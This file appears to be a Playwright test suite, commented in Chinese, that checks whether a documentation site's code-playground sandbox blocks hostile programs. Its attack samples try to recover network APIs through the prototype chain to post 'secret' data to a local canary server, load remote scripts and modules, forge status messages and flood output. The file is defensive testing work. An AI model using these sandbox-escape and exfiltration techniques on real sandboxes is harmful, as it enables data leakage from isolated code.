// 恶意程序：每一种攻击都被挡住——没有请求到达任何主机（用 127.0.0.1 上的诱饵服务器计数，浏览器不经 Playwright 拦截），
// 页面主线程不被卡住（requestAnimationFrame 探针），状态行不能伪造，页面不会崩溃，离开页面后运行停止，
// 之后同一个示例和页面上的另一个示例照常工作。
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { useSite, docPath } from '../helpers/site';
import { loadPages } from '../../scripts/lib/pages';

const site = useSite();

let canaryServer: Server;
let canary = '';
const hits: string[] = [];

before(async () => {
  canaryServer = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('access-control-allow-origin', '*');
    res.setHeader('content-type', req.url?.endsWith('.mjs') ? 'text/javascript' : 'text/plain');
    res.end(req.url?.endsWith('.mjs') ? 'export default 1;' : 'leaked');
  });
  canaryServer.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => canaryServer.listen(0, '127.0.0.1', r));
  canary = `http://127.0.0.1:${(canaryServer.address() as AddressInfo).port}`;
});
after(() => new Promise<void>((r) => canaryServer.close(() => r())));

/** 嵌入示例最多的页面和它的前两个示例。 */
function pageWithTwoPlaygrounds(): { path: string; ids: [string, string] } {
  let best: { path: string; ids: string[] } | null = null;
  for (const p of loadPages()) {
    const ids = [...p.body.matchAll(/import\s+\w+\s+from\s+'@site\/examples\/([^']+)\/example\.json'/g)].map((m) => m[1]!);
    if (ids.length >= 2 && (!best || ids.length > best.ids.length)) best = { path: docPath(p.file), ids };
  }
  assert.ok(best, '没有嵌入两个以上示例的页面');
  return { path: best.path, ids: [best.ids[0]!, best.ids[1]!] };
}

const playground = (page: Page, id: string) => page.locator(`figure[data-example="${id}"]`);

async function runAndWait(page: Page, id: string): Promise<{ text: string; status: string; spans: number }> {
  const pg = playground(page, id);
  const out = pg.locator('[data-testid="playground-output"]');
  const previousRun = Number((await out.getAttribute('data-run')) ?? 0);
  await pg.getByRole('button', { name: /运行/ }).click();
  await page.waitForFunction(
    ([el, prev]) => el?.getAttribute('data-state') === 'done' && Number(el.getAttribute('data-run')) > (prev as number),
    [await out.elementHandle(), previousRun] as const,
    { timeout: 60_000 },
  );
  return {
    text: (await out.textContent()) ?? '',
    status: (await pg.locator('[role="status"]').textContent()) ?? '',
    spans: await out.locator('span').count(),
  };
}

async function replaceCode(page: Page, id: string, code: string): Promise<void> {
  const editor = playground(page, id).locator('.cm-content').first();
  await editor.waitFor({ timeout: 15_000 });
  await editor.click();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.press('Delete');
  // 长程序一次插入，编辑器不做自动缩进。
  await page.keyboard.insertText(code);
}

/**
 * 主线程探针：Long Tasks API 记下最长的任务，requestAnimationFrame 记下相邻两帧的最长间隔。
 * 断言用最长任务（机器繁忙时帧间隔会因为拿不到 CPU 而变长，任务长度才说明页面本身被卡住）；帧间隔只打印。
 */
async function startProbe(page: Page): Promise<void> {
  // 字符串形式：tsx 给具名函数加的 __name 辅助函数在页面里不存在。
  await page.evaluate(`(() => {
    window.__probe = { longest: 0, maxGap: 0, on: true };
    const probe = window.__probe;
    probe.observer = new PerformanceObserver((list) => {
      for (const e of list.getEntries()) probe.longest = Math.max(probe.longest, e.duration);
    });
    probe.observer.observe({ type: 'longtask' });
    let last = performance.now();
    function tick(t) {
      probe.maxGap = Math.max(probe.maxGap, t - last);
      last = t;
      if (probe.on) requestAnimationFrame(tick);
    }
    requestAnimationFrame(tick);
  })()`);
}

async function stopProbe(page: Page): Promise<{ longestTask: number; maxFrameGap: number }> {
  // 等一帧，让最后的 longtask 记录送达。
  return page.evaluate(`new Promise((resolve) => requestAnimationFrame(() => setTimeout(() => {
    const p = window.__probe;
    p.on = false;
    p.observer.disconnect();
    resolve({ longestTask: Math.round(p.longest), maxFrameGap: Math.round(p.maxGap) });
  }, 50)))`);
}

const ATTACKS: Array<{ name: string; code: (canary: string) => string; expect: (r: { text: string; status: string; spans: number }) => void }> = [
  {
    name: '原型链上找回 fetch、XMLHttpRequest、WebSocket、EventSource、WebSocketStream、WebTransport',
    code: (c) => `
const results: string[] = [];
const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebSocketStream', 'WebTransport'];
for (let o: object | null = globalThis; o; o = Object.getPrototypeOf(o)) {
  for (const name of names) {
    const d = Object.getOwnPropertyDescriptor(o, name);
    if (!d || typeof d.value !== 'function') continue;
    const f = d.value as (...a: unknown[]) => unknown;
    try {
      if (name === 'fetch') await (f.call(globalThis, '${c}/fetch?data=secret', { method: 'POST', body: 'secret' }) as Promise<unknown>);
      else if (name === 'XMLHttpRequest') { const x = new (f as unknown as new () => { open(m: string, u: string): void; send(): void })(); x.open('GET', '${c}/xhr'); x.send(); }
      else new (f as unknown as new (u: string) => unknown)(name.startsWith('Web') ? '${c.replace('http', 'ws')}/' + name : '${c}/' + name);
      results.push(name + ':sent');
    } catch (e) { results.push(name + ':' + (e as Error).message); }
  }
}
const proto = (globalThis as unknown as { constructor: { prototype: Record<string, unknown> } }).constructor.prototype;
console.log(typeof proto.fetch === 'function' ? 'proto-fetch-fn' : 'proto-fetch-gone');
await new Promise((r) => setTimeout(r, 300));
console.log(results.join('\\n'));
`,
    expect: (r) => {
      assert.match(r.text, /沙箱里没有网络：fetch 不可用/);
    },
  },
  {
    name: '远程经典脚本（importScripts）和经 eval / Function 的远程 ES 模块',
    code: (c) => `
const out: string[] = [];
for (let o: object | null = globalThis; o; o = Object.getPrototypeOf(o)) {
  const d = Object.getOwnPropertyDescriptor(o, 'importScripts');
  if (d && typeof d.value === 'function') {
    try { (d.value as (u: string) => void).call(globalThis, '${c}/classic.js'); out.push('importScripts:loaded'); } catch (e) { out.push('importScripts:' + (e as Error).message); }
  }
}
try { await (0, eval)("import('${c}/eval.mjs')"); out.push('eval-import:loaded'); } catch (e) { out.push('eval-import:blocked'); }
try { await (new Function("return import('${c}/function.mjs')"))(); out.push('function-import:loaded'); } catch (e) { out.push('function-import:blocked'); }
console.log(out.join('\\n'));
`,
    expect: (r) => {
      assert.match(r.text, /eval-import:blocked/);
      assert.match(r.text, /function-import:blocked/);
      assert.doesNotMatch(r.text, /:loaded/);
    },
  },
  {
    name: 'FontFace 加载和嵌套 worker',
    code: (c) => `
const g = globalThis as unknown as Record<string, unknown>;
const out: string[] = [];
try { const F = g.FontFace as new (n: string, s: string) => { load(): Promise<unknown> }; await new F('x', 'url(${c}/font.woff2)').load(); out.push('font:loaded'); } catch (e) { out.push('font:' + (e as Error).message); }
try {
  const W = g.Worker as new (u: string) => unknown;
  const B = g.Blob as new (p: string[], o: object) => Blob;
  const U = g.URL as unknown as { createObjectURL(b: Blob): string };
  new W(U.createObjectURL(new B(["fetch('${c}/nested-worker')"], { type: 'text/javascript' })));
  out.push('worker:started');
} catch (e) { out.push('worker:' + (e as Error).message); }
await new Promise((r) => setTimeout(r, 300));
console.log(out.join('\\n'));
`,
    expect: (r) => {
      assert.match(r.text, /font:沙箱里没有网络：FontFace 不可用/);
      assert.match(r.text, /worker:沙箱里没有网络：Worker 不可用/);
    },
  },
  {
    name: '伪造状态行和结束消息、发送畸形消息',
    code: () => `
const g = globalThis as unknown as { postMessage(m: unknown): void };
for (let id = 0; id < 50; id++) {
  g.postMessage({ type: 'done', id, result: { kind: 'ok', exitCode: 0, message: '全部通过' }, elapsedMs: -42 });
  g.postMessage({ type: 'done', id, end: { kind: 'ok' } });
  g.postMessage({ type: 'output', id, stream: 'stdout', text: { evil: true } });
  g.postMessage({ type: 'output', id, stream: { toString: null }, text: 'x' });
}
console.log('forged');
throw new Error('真正的失败');
`,
    expect: (r) => {
      assert.match(r.status, /出错/);
      assert.match(r.status, /退出码 1/);
      assert.doesNotMatch(r.status, /全部通过|-42/);
      assert.match(r.text, /Error: 真正的失败/);
    },
  },
  {
    name: '一次写出 50 MB 的字符串',
    code: () => `console.log('x'.repeat(50 * 1024 * 1024));\nconsole.log('after');\n`,
    expect: (r) => {
      assert.match(r.status, /输出已截断/);
      assert.ok(r.text.length < 5000, `显示了 ${r.text.length} 个字符`);
      assert.doesNotMatch(r.text, /after/);
    },
  },
  {
    name: '5 万个不带换行的小块',
    code: () => `import { fmt } from './go';\nfor (let i = 0; i < 50000; i++) fmt.Print(i % 100 === 99 ? '\\n' : '.');\n`,
    expect: (r) => {
      assert.match(r.status, /运行结束/);
      assert.ok(r.spans <= 2, `${r.spans} 个 span`);
      assert.equal(r.text.split('\n').length, 501);
    },
  },
  {
    name: '只用 \\r、U+2028、NEL 换行绕过行数上限',
    code: () => `console.log('a\\r'.repeat(3000));\nconsole.log('b\\u2028'.repeat(3000) + 'c\\u0085'.repeat(3000));\n`,
    expect: (r) => {
      assert.match(r.status, /输出已截断/);
      assert.match(r.status, /2000 行/);
    },
  },
  {
    name: '错误栈极长的异常',
    code: () => `const e = new Error('m'.repeat(5_000_000));\nthrow e;\n`,
    expect: (r) => {
      assert.match(r.status, /出错/);
      assert.match(r.text, /^Error: m+…/);
    },
  },
];

test('恶意程序被挡住：没有请求离开页面，主线程不卡，状态行不可伪造，之后两个示例都照常工作', async () => {
  const { path, ids } = pageWithTwoPlaygrounds();
  // 不用 Playwright 拦截请求：要证明的是浏览器本身（CSP）挡住了它们。
  const context = await site.browser.newContext();
  const page = await context.newPage();
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(e.message));
  await page.goto(site.server.url + path, { waitUntil: 'networkidle' });
  const [a, b] = ids;
  await playground(page, a).scrollIntoViewIfNeeded();
  // 先跑一次普通程序：加载编辑器、运行器和沙箱 iframe 是一次性的开销，不算在攻击头上。
  await replaceCode(page, a, "console.log('warm');\n");
  assert.equal((await runAndWait(page, a)).text, 'warm\n');
  // 探针自检：主线程上 150 ms 的忙等必须被记下来，否则下面的断言什么也证明不了。
  await startProbe(page);
  await page.evaluate('new Promise((r) => setTimeout(() => { const t = performance.now(); while (performance.now() - t < 150); r(); }, 0))');
  assert.ok((await stopProbe(page)).longestTask >= 150, '主线程探针没有记下 150 ms 的任务');
  const gaps: Record<string, { longestTask: number; maxFrameGap: number }> = {};
  const STALL_MS = 500;
  for (const attack of ATTACKS) {
    await replaceCode(page, a, attack.code(canary));
    // 真正的卡顿（以前 50 MB 的输出卡住 47 秒）每次都会出现，而且是秒级；这台 2 核机器繁忙时任务会被拖长几倍
    // （负载 9 时各攻击测到 0–126 ms），所以同一个攻击最多测三次取最好的一次，门槛定在 500 ms：只挡住卡死，不量快慢。
    for (let attempt = 0; attempt < 3; attempt++) {
      await startProbe(page);
      const r = await runAndWait(page, a);
      const g = await stopProbe(page);
      attack.expect(r);
      assert.deepEqual(hits, [], `${attack.name}：有请求到达了诱饵服务器`);
      assert.equal(await page.getByText('页面已崩溃').count(), 0, `${attack.name}：页面崩溃了`);
      const best = gaps[attack.name];
      if (!best || g.longestTask < best.longestTask) gaps[attack.name] = g;
      if (g.longestTask < STALL_MS) break;
    }
  }
  console.log('main thread per attack (ms):', JSON.stringify(gaps));
  for (const [name, g] of Object.entries(gaps)) assert.ok(g.longestTask < STALL_MS, `${name}：主线程上最长的任务 ${g.longestTask} ms`);
  await replaceCode(page, a, "console.log('after', 1 + 1);\n");
  assert.equal((await runAndWait(page, a)).text, 'after 2\n');
  await playground(page, b).scrollIntoViewIfNeeded();
  const other = await runAndWait(page, b);
  assert.match(other.status, /运行结束|程序退出/);
  assert.deepEqual(pageErrors, []);
  await context.close();
});

test('站内跳转到别的页面后，正在进行的运行被叫停，不再发消息', async () => {
  const { path, ids } = pageWithTwoPlaygrounds();
  const context = await site.browser.newContext();
  const page = await context.newPage();
  await page.goto(site.server.url + path, { waitUntil: 'networkidle' });
  const id = ids[0];
  await playground(page, id).scrollIntoViewIfNeeded();
  await replaceCode(page, id, "for (let i = 0; i < 200; i++) {\n  console.log('tick', i);\n  await new Promise((r) => setTimeout(r, 20));\n}\n");
  await page.evaluate(() => {
    const w = window as unknown as { __frameMessages: number };
    w.__frameMessages = 0;
    window.addEventListener('message', (ev) => {
      if (ev.source !== window) w.__frameMessages++;
    });
  });
  await playground(page, id).getByRole('button', { name: /运行/ }).click();
  // 改过的代码先做类型检查（第一次要加载编译器），机器繁忙时要等一会儿。
  await page.waitForFunction(() => (window as unknown as { __frameMessages: number }).__frameMessages > 2, null, { timeout: 60_000 });
  // 站内链接：Docusaurus 的客户端路由，文档不重新加载，沙箱 iframe 还在。
  await page.locator('.navbar a[href="/"], a.navbar__brand').first().click();
  await page.waitForFunction(() => !document.querySelector('figure[data-example]'), null, { timeout: 15_000 });
  await page.waitForTimeout(300);
  const before = await page.evaluate(() => (window as unknown as { __frameMessages: number }).__frameMessages);
  await page.waitForTimeout(1000);
  const afterNav = await page.evaluate(() => (window as unknown as { __frameMessages: number }).__frameMessages);
  assert.equal(afterNav - before, 0, '离开页面后沙箱还在发消息');
  assert.equal(await page.locator('iframe.sandbox-frame').count(), 1, '客户端路由应保留沙箱 iframe');
  await context.close();
});
